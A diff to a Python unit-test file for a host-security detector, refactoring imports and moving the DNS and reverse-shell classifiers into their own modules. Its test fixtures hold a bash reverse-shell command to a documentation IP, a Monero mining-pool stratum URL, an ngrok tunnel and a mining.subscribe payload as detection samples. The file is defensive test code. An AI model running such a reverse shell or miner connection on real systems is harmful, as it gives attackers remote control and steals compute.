@@ -21,10 +21,12 @@ from hypothesis import HealthCheck, given, settings, strategies as st
 from guard.detect import detector as detect
 from guard.detect import files as files_module
 from guard.kernel.abi import SampleKind
-from guard.detect.classify import FileContent, Finding, miner, ssh, ssh_config, stratum, tunnels
+from guard.detect.classify import (
+    FileContent, Finding, dns, miner, reverse_shell, ssh, ssh_config, stratum, tunnels,
+)
 from guard.detect.detector import ENFORCING, Detector, decide, strongest
 from guard.detect.files import CONFIG_READ_MAX, DIR_LIST_MAX, ProcessFiles
-from guard.policy.model import default_policy
+from guard.policy.load import default_policy
 from tests.unit.classify_checks import FakeFiles, assert_json, payload_record, timed
 
 #: Any one classification, whatever its input.
@@ -399,7 +401,7 @@ EXEC_CLASSIFIERS = [
     (miner, "classify_exec", "miner exec", {"miner_exec"}, MINED_SSH),
     (tunnels, "classify_tunnel_exec", "tunnel exec", {"tunnel_tool"},
      ["ngrok", "tcp", "stratum+tcp://pool.supportxmr.com:3333"]),
-    (tunnels, "classify_reverse_shell", "reverse shell", {"reverse_shell"},
+    (reverse_shell, "classify_reverse_shell", "reverse shell", {"reverse_shell"},
      ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1 # stratum+tcp://a.example:1"]),
 ]
 
@@ -438,8 +440,8 @@ def test_a_raising_exec_classifier_costs_only_its_own_answer(monkeypatch, module
      payload_record(b"SSH-2.0-OpenSSH_9.2\r\n", SampleKind.FIRST, 443)),
     (stratum, "classify_payload", "stratum", "stratum",
      payload_record(b'{"id":1,"method":"mining.subscribe","params":[]}\n', SampleKind.FIRST, 443)),
-    (miner, "parse_dns_query", "dns", "miner_dns", payload_record(b"\0" * 40, SampleKind.UDP, 53)),
-    (miner, "parse_dns_answer", "dns", "miner_dns",
+    (dns, "parse_dns_query", "dns", "miner_dns", payload_record(b"\0" * 40, SampleKind.UDP, 53)),
+    (dns, "parse_dns_answer", "dns", "miner_dns",
      payload_record(b"\0" * 40, SampleKind.DNS_ANSWER, 53)),
 ])
 def test_a_raising_payload_classifier_costs_only_its_own_answer(monkeypatch, module, function,
